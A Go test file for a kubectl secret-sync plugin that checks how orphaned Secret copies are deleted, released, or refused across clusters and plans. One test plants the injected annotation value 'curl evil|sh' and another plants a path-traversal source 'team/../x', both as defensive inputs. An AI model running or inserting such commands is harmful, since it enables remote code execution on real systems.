package cmd

import (
	"fmt"
	"maps"
	"net/http"
	"strings"
	"testing"

	"github.com/datum-cloud/kubectl-plugins/pkg/common/failure"
	"github.com/datum-cloud/kubectl-plugins/plugins/kubectl-secretsync/internal/apitest"
)

// stays checks which copies are in prod.
func (d *desk) stays(t *testing.T, want map[string]bool) {
	t.Helper()
	for name, there := range want {
		if (d.servers["prod"].Get("team", name) != nil) != there {
			t.Errorf("%s: want it to be there: %v", name, there)
		}
	}
}

// TestALiveSourceIsNoOrphan: what a call does not select may be another's, where
// the plan has only a name.
func TestALiveSourceIsNoOrphan(t *testing.T) {
	for name, c := range map[string]struct {
		copies []string
		orphan string
	}{
		"a name that is mistyped":       {[]string{"copy app db --plan p"}, "ap --plan p"},
		"a plan of two calls":           {[]string{"copy app --plan p", "copy db --plan p"}, "none --plan p"},
		"a plan of two selections":      {[]string{"copy -l fleet=all --plan p", "copy -l fleet=old --plan p"}, "-l fleet=new --plan p"},
		"a plan of two places":          {[]string{"copy app db --plan p"}, "app db --suffix -b --plan p"},
		"a plan that is replaced":       {[]string{"copy app db --plan p"}, "-l fleet=new --replaces-plan p"},
		"an ID of flags that was named": {[]string{"copy app db --plan p"}, "kept --replaces-plan p"},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, "prod")
			d.secret("db", "fleet", "old")
			d.secret("kept", "fleet", "new")
			for _, line := range c.copies {
				d.want(t, line+" --to-context prod", failure.OK)
			}
			line := "delete --orphans " + c.orphan + " --to-context prod"
			d.want(t, line, failure.Refused, "2 refused", "is there, and a call with other flags may make it", "--allow-live-source")
			d.stays(t, map[string]bool{"app": true, "db": true})
			d.want(t, line+" --allow-live-source", failure.OK, "2 deleted")
			d.stays(t, map[string]bool{"app": false, "db": false})
		})
	}
}

// TestADeselectedSource: under a hash of the flags no other call is the same plan.
func TestADeselectedSource(t *testing.T) {
	d := newDesk(t, "prod")
	d.secret("kept", "fleet", "all")
	d.want(t, "copy -l fleet=all --to-context prod", failure.OK)
	d.secret("app", "fleet", "none")
	d.want(t, "delete --orphans -l fleet=all --to-context prod", failure.OK, "1 deleted", "is no longer selected")
	d.stays(t, map[string]bool{"app": false, "kept": true})
}

// TestAListThatLeavesSomeOut: a source that is there by name is there, whatever a
// proxy takes out of lists. Nothing lifts that.
func TestAListThatLeavesSomeOut(t *testing.T) {
	for _, selection := range []string{"-l fleet=all", "-l fleet=all --plan p", "--all", "--all --plan p"} {
		d := newDesk(t, "prod")
		d.secret("db", "fleet", "all")
		d.want(t, "copy "+selection+" --to-context prod", failure.OK)
		d.servers["management"].Break(answer("GET", "/team/secrets", `{"kind":"SecretList","items":[{"metadata":{"name":"db","namespace":"team","uid":"u","resourceVersion":"1"}}]}`))
		for _, lift := range []string{"", " --allow-live-source", " --allow-empty"} {
			d.want(t, "delete --orphans "+selection+" --to-context prod"+lift, failure.Refused, "1 refused", "is there and selected")
		}
		d.stays(t, map[string]bool{"app": true, "db": true})
	}
}

// TestANamespaceThatIsRestored: what is not there yet is not gone.
func TestANamespaceThatIsRestored(t *testing.T) {
	for _, line := range []string{"delete --orphans app --to-context prod", "delete --orphans -l fleet=all --to-context prod"} {
		d := newDesk(t, "prod")
		d.secret("first", "fleet", "all")
		d.want(t, strings.Replace(line, "delete --orphans", "copy", 1), failure.OK)
		d.servers["management"].Delete("team", "app")
		d.servers["management"].Break(answer("GET", "/namespaces/team", `{"metadata":{"name":"team","creationTimestamp":"2999-01-01T00:00:00Z"}}`))
		d.want(t, line, failure.Refused, "may not be restored yet", "--allow-empty")
		d.stays(t, map[string]bool{"app": true})
		d.want(t, line+" --allow-empty", failure.OK, "1 deleted")
	}
}

// TestPlansThatEnd: a plan lets go of what another plan makes too, and the last
// one deletes it. No hint proposes to give up another's copies.
func TestPlansThatEnd(t *testing.T) {
	d := newDesk(t, "prod")
	d.want(t, "copy app --plan a --to-context prod", failure.OK)
	d.want(t, "copy app --plan b --to-context prod", failure.OK)
	d.servers["management"].Delete("team", "app")
	d.want(t, "delete --orphans app --plan a --to-context prod --dry-run", failure.OK, "would release", "is gone; it stays a copy of plan b")
	if _, stdout, stderr := d.run(t, "delete --orphans app --plan a --to-context prod"); !strings.Contains(stdout, "1 released") || strings.Contains(stderr, "hint") {
		t.Errorf("%s%s", stdout, stderr)
	}
	d.stays(t, map[string]bool{"app": true})
	d.want(t, "delete --orphans app --plan a --to-context prod", failure.OK, "0 targets")
	d.want(t, "delete --orphans app --plan b --to-context prod", failure.OK, "1 deleted")
	d.stays(t, map[string]bool{"app": false})
}

// TestAReleaseThatIsNotAnswered: it is done, and nobody says so.
func TestAReleaseThatIsNotAnswered(t *testing.T) {
	d := newDesk(t, "prod")
	d.want(t, "copy app --plan a --to-context prod", failure.OK)
	d.want(t, "copy app --plan b --to-context prod", failure.OK)
	d.servers["management"].Delete("team", "app")
	d.servers["prod"].Break(func(s *apitest.Server, w http.ResponseWriter, r *http.Request) bool {
		if r.Method == http.MethodPatch {
			s.Handle(w, r)
			panic(http.ErrAbortHandler)
		}
		return false
	})
	d.want(t, "delete --orphans app --plan a --to-context prod", failure.OK, "a copy of other plans only by now")
	d.stays(t, map[string]bool{"app": true})
}

// TestPlansOfSomebody: what a target's metadata say is not repeated as an ID.
func TestPlansOfSomebody(t *testing.T) {
	d := newDesk(t, "prod")
	d.want(t, "copy app --plan p --to-context prod", failure.OK)
	annotations := d.servers["prod"].Get("team", "app")["metadata"].(map[string]any)["annotations"].(map[string]any)
	annotations["secretsync.datum.net/plans"] = "p,x;curl evil|sh"
	d.servers["management"].Delete("team", "app")
	code, stdout, stderr := d.run(t, "delete --orphans app --plan p --to-context prod --dry-run")
	if said := stdout + stderr; code != failure.OK || strings.Contains(said, "curl") || !strings.Contains(said, "a copy of other plans") {
		t.Errorf("exit code %d\n%s", code, said)
	}
}

// TestPlansThatAreNone: what is between two commas is nobody's plan to keep a copy.
func TestPlansThatAreNone(t *testing.T) {
	for _, plans := range []string{"p,", ",p", "p,,p"} {
		d := newDesk(t, "prod")
		d.want(t, "copy app --plan p --to-context prod", failure.OK)
		annotations := d.servers["prod"].Get("team", "app")["metadata"].(map[string]any)["annotations"].(map[string]any)
		annotations["secretsync.datum.net/plans"] = plans
		d.servers["management"].Delete("team", "app")
		d.want(t, "delete --orphans app --plan p --to-context prod", failure.OK, "1 deleted")
	}
}

// TestStatusOfAGoneSource: its copies are shown, as the orphans that they are.
func TestStatusOfAGoneSource(t *testing.T) {
	d := newDesk(t, "prod")
	d.secret("db", "fleet", "none")
	d.want(t, "copy app db --to-context prod", failure.OK)
	d.servers["management"].Delete("team", "app")
	d.want(t, "status --orphans app db --to-context prod", failure.Found, "1 in-sync, 1 orphaned", "is gone")
	d.want(t, "status app db --to-context prod", failure.Unable, "not found")
	d.servers["management"].Delete("team", "db")
	d.want(t, "status --orphans app db --to-context prod", failure.Found, "2 orphaned")
	d.want(t, "status --orphans --all --to-context prod", failure.Refused, "no Secret is selected", "--allow-empty")
	d.want(t, "status --orphans --all --to-context prod --allow-empty", failure.OK, "0 targets")
}

// TestOrphansInTheSourcesOwnCluster: a pattern leaves it out here as in copy, by
// whichever name it is found.
func TestOrphansInTheSourcesOwnCluster(t *testing.T) {
	d := newDesk(t, "prod-1")
	d.want(t, "copy app --to-context prod-1", failure.OK)
	d.servers["management"].Delete("team", "app")
	uid := fmt.Sprintf(`{"metadata":{"name":"kube-system","uid":%q}}`, d.servers["management"].URL+"kube-system")
	d.servers["prod-1"].Break(answer("GET", "/kube-system", uid))
	d.want(t, "delete --orphans app --to-context prod-*", failure.OK, "1 skipped", "the source's own cluster")
	d.want(t, "delete --orphans app --to-context prod-1", failure.OK, "1 deleted")
}

// TestANamespaceThatGoesMeanwhile: a source that is asked for by name may be gone with
// its namespace, which is looked at last.
func TestANamespaceThatGoesMeanwhile(t *testing.T) {
	d := newDesk(t, "prod")
	d.secret("kept", "fleet", "all")
	d.want(t, "copy app --plan p --to-context prod", failure.OK)
	d.servers["management"].Delete("team", "app")
	going := false
	gone := answer("GET", "/namespaces/team", `{"metadata":{"name":"team","deletionTimestamp":"2026-01-01T00:00:00Z"}}`)
	d.servers["management"].Break(func(s *apitest.Server, w http.ResponseWriter, r *http.Request) bool {
		going = going || strings.HasSuffix(r.URL.Path, "/secrets/app")
		return going && gone(s, w, r)
	})
	d.want(t, "delete --orphans -l fleet=all --plan p --to-context prod", failure.Refused, "is being deleted")
	d.stays(t, map[string]bool{"app": true})
}

// TestACraftedCopy stops nobody else's orphans from being found.
func TestACraftedCopy(t *testing.T) {
	d := newDesk(t, "prod")
	d.secret("kept", "fleet", "all")
	d.want(t, "copy app kept --plan p --to-context prod", failure.OK)
	annotations := d.servers["prod"].Get("team", "kept")["metadata"].(map[string]any)["annotations"].(map[string]any)
	annotations["secretsync.datum.net/source"] = "team/../x"
	d.servers["management"].Delete("team", "app")
	d.want(t, "delete --orphans app --plan p --to-context prod", failure.OK, "1 target: 1 deleted")
}

// TestACraftedSource: a source that a target makes up and that may not be read, or
// more than there is time for, stops nobody else's orphans.
func TestACraftedSource(t *testing.T) {
	for name, c := range map[string]struct {
		crafted int
		fault   apitest.Fault
		timeout string
		said    string
	}{
		"it may not be read":     {1, refuse("GET", "/secrets/a0000", 403, "Forbidden"), "1m", "1 deleted, 1 forbidden"},
		"there is no such time":  {400, unanswered("/secrets/a0"), "10s", "there was no time to ask for it"},
		"the server breaks down": {1, refuse("GET", "/secrets/a0000", 500, "InternalError"), "1m", "1 deleted, 1 failed"},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, "prod-1", "prod-2")
			d.want(t, "copy app --plan p --to-context prod-*", failure.OK)
			d.craft(c.crafted)
			d.servers["prod-1"].Delete("team", "app")
			d.servers["management"].Delete("team", "app")
			d.servers["management"].Break(c.fault)
			last := fmt.Sprintf("a%04d", c.crafted-1)
			d.want(t, "delete --orphans app --plan p --to-context prod-* --timeout "+c.timeout, failure.SomeFailed, "whether its source team/"+last+" is there is not known", c.said)
			if d.servers["prod-2"].Get("team", "app") != nil {
				t.Error("an orphan is left")
			}
			if d.servers["prod-1"].Get("team", last) == nil {
				t.Error("what nobody knows of is gone")
			}
		})
	}
}

// craft forges copies in prod-1 of sources that nobody has.
func (d *desk) craft(n int) {
	metadata := d.servers["prod-1"].Get("team", "app")["metadata"].(map[string]any)
	for i := range n {
		name := fmt.Sprintf("a%04d", i)
		annotations := maps.Clone(metadata["annotations"].(map[string]any))
		annotations["secretsync.datum.net/source"], annotations["secretsync.datum.net/copy"] = "team/"+name, "team/"+name
		d.servers["prod-1"].Put("team", name, map[string]any{"metadata": map[string]any{"labels": metadata["labels"], "annotations": annotations}})
	}
}

// unanswered lets requests for such paths wait until their client gives up.
func unanswered(path string) apitest.Fault {
	return func(_ *apitest.Server, _ http.ResponseWriter, r *http.Request) bool {
		found := strings.Contains(r.URL.Path, path)
		if found {
			<-r.Context().Done()
		}
		return found
	}
}
